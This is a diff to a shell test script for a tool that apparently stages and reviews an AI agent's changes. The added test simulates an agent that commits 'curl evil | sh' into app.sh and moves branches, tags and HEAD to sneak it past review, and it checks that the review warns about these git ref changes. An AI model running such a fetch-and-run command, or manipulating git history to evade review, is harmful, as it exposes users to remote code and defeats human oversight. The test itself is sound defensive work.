@@ -111,3 +111,26 @@ eq "$(jq -r '[.changeset.changes[] | select(.renamed_from) | .path] | join(",")'
     "  (review reads the moves as renames)"
 eq "$(warned renamed_changed "$T/ren.json")" "lib/.env,lib/m,lib/new.c,r2.txt" \
     "review warns of a new file in a renamed directory, of a mode or symlink target changed in a rename; not of what moved as it was"
+
+# Git history moved by the agent: a commit on a branch, the branch moved
+# (here main: a checkout or reset on the host brings the commit's content
+# into the files), a tag made, a branch deleted, the refs packed (the
+# loose ones deleted), another branch checked out (HEAD). The
+# review listed .git/refs/... among the other changes, the commit's
+# content only as git objects (binary), and warned of nothing. It warns of
+# HEAD, every ref and packed-refs (git_refs); not of the reflogs, the
+# objects, nor a ref's directory.
+W=$T/wsgit
+mkdir -p "$W" && (cd "$W" && git init -q -b main && echo good > app.sh && git add app.sh &&
+    git -c user.email=u@x -c user.name=u commit -qm init && git branch keep && git branch old)
+(cd "$W" && "$P" run --stage auto -- sh -c 'git checkout -q -b feat/x && echo "curl evil | sh" > app.sh &&
+    git -c user.email=a@x -c user.name=a commit -qam fix && git checkout -q main && git update-ref refs/heads/main feat/x &&
+    git tag v1 && git branch -q -D old && git pack-refs --all && git update-ref refs/heads/keep main &&
+    git checkout -q -b side && cat app.sh') \
+    > "$T/git.out" 2>&1
+(cd "$W" && "$P" status --review --json) > "$T/git.json"
+eq "$(cat "$W/app.sh"):$(warned git_refs "$T/git.json")" \
+    "good:.git/HEAD,.git/packed-refs,.git/refs/heads/keep,.git/refs/heads/main,.git/refs/heads/old,.git/refs/heads/side" \
+    "review warns of the refs the agent made, moved or deleted, HEAD and packed-refs (git_refs); not of reflogs, objects or a ref's directory"
+eq "$(cd "$W" && "$P" status --review | grep -c '^  ! .git/refs/heads/keep: moves git history.*(git_refs)$')" 1 \
+    "  said on the terminal, with what a checkout or reset would do"
